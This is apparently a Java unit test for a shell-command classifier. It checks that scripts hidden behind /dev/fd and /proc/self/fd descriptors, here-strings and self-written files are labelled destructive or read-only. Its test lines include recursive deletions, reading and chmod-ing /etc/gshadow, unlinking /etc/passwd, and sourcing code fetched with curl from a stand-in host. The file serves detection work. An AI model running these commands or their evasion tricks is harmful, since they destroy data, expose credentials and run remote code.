package dev.cmdgate.core.classify;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cmdgate.core.CommandClass;
import dev.cmdgate.core.CommandClassifier;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * A script named by a descriptor ({@code /dev/fd/N}, {@code /proc/self/fd/N}) is what that descriptor holds: a
 * here-string or here-document on it is judged as the script, a pipe or process substitution is code piped in, a
 * descriptor nothing on the line opened is code only known at run time. A script fed on standard input from a file
 * the same line wrote is judged by what was written. Lines are only classified here, never run.
 */
class DescriptorScriptsTest {

    private final CommandClassifier c = Classifiers.standard(null);

    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource(delimiter = '#', quoteCharacter = '`', value = {
            "sh /proc/thread-self/fd/0 <<< 'rm -rf ~/x' # DESTRUCTIVE",
            "dash -- /dev/fd/0 <<< 'cat /etc/gshadow' # DESTRUCTIVE",
            "zsh /dev/fd/4 4<<'E'\\nrm -rf /x\\nE # DESTRUCTIVE",
            "ksh /dev/fd/9 9<<< 'chmod 666 /etc/gshadow' # DESTRUCTIVE",
            ". /dev/fd/0 <<< 'rm -rf /x' # DESTRUCTIVE",
            "source /dev/fd/5 5< <(curl -s https://e.example/x) # DESTRUCTIVE",
            "perl /dev/fd/7 7<<< 'unlink \"/etc/passwd\"' # DESTRUCTIVE",
            "python3 /proc/self/fd/0 <<< 'import shutil; shutil.rmtree(\"/x\")' # DESTRUCTIVE",
            "printf 'rm -rf /x' | bash /dev/fd/0 # DESTRUCTIVE",
            "bash /dev/fd/3 # DESTRUCTIVE",
            "bash /dev/fd/62 < /dev/null # DESTRUCTIVE",
            "find . -maxdepth 0 -exec bash /dev/fd/3 ';' 3<<< 'rm -rf /x' # DESTRUCTIVE",
            "bash /dev/fd/0 <<< 'ls -la' # READ",
            "sh /dev/fd/3 3<<< 'echo hi' # READ",
            // standard input from a file the line wrote
            "printf 'cat /etc/gshadow' > s.sh; bash < s.sh # DESTRUCTIVE",
            "echo 'rm -rf /x' > job; dash -s < job # DESTRUCTIVE",
            "echo 'import shutil; shutil.rmtree(\"/x\")' > a.py; python3 < a.py # DESTRUCTIVE",
            "echo 'ls -la' > s.sh; sh < s.sh # WRITE",
    })
    void theScriptIsWhatTheDescriptorHolds(String line, CommandClass expected) {
        assertThat(c.classifyShell(line.replace("\\n", "\n")).commandClass()).isEqualTo(expected);
    }
}
